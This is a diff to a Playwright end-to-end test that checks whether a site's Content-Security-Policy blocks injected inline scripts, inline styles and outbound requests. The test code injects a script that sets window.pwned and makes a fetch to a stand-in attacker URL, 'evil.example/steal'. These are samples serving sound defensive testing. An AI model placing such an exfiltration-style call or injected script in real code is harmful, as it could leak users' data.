@@ -18,28 +18,30 @@ test('the Content-Security-Policy blocks injected inline scripts, inline styles 
   expect(csp).not.toContain('unsafe-inline')
   await expect(page.getByRole('heading', { name: 'Welcome to ICN' })).toBeVisible()
 
-  const outcome = await page.evaluate(async () => {
-    const violations: string[] = []
+  // Runs in the page (a string: the e2e project is type-checked without DOM types).
+  const outcome = await page.evaluate<{
+    violations: string[]
+    pwned: boolean
+    styleApplied: boolean
+    blockedFetch: boolean
+  }>(`(async () => {
+    const violations = []
     document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective))
-    const w = window as unknown as { pwned?: boolean }
     const script = document.createElement('script')
     script.textContent = 'window.pwned = true'
     document.body.append(script)
     const styled = document.createElement('div')
     styled.setAttribute('style', 'position: fixed; inset: 0; background: red')
     document.body.append(styled)
-    const blockedFetch = await fetch('https://evil.example/steal').then(
-      () => false,
-      () => true,
-    )
+    const blockedFetch = await fetch('https://evil.example/steal').then(() => false, () => true)
     await new Promise((r) => setTimeout(r, 200))
     return {
       violations,
-      pwned: w.pwned === true,
+      pwned: window.pwned === true,
       styleApplied: getComputedStyle(styled).position === 'fixed',
       blockedFetch,
     }
-  })
+  })()`)
   expect(outcome.pwned).toBe(false)
   expect(outcome.styleApplied).toBe(false)
   expect(outcome.blockedFetch).toBe(true)
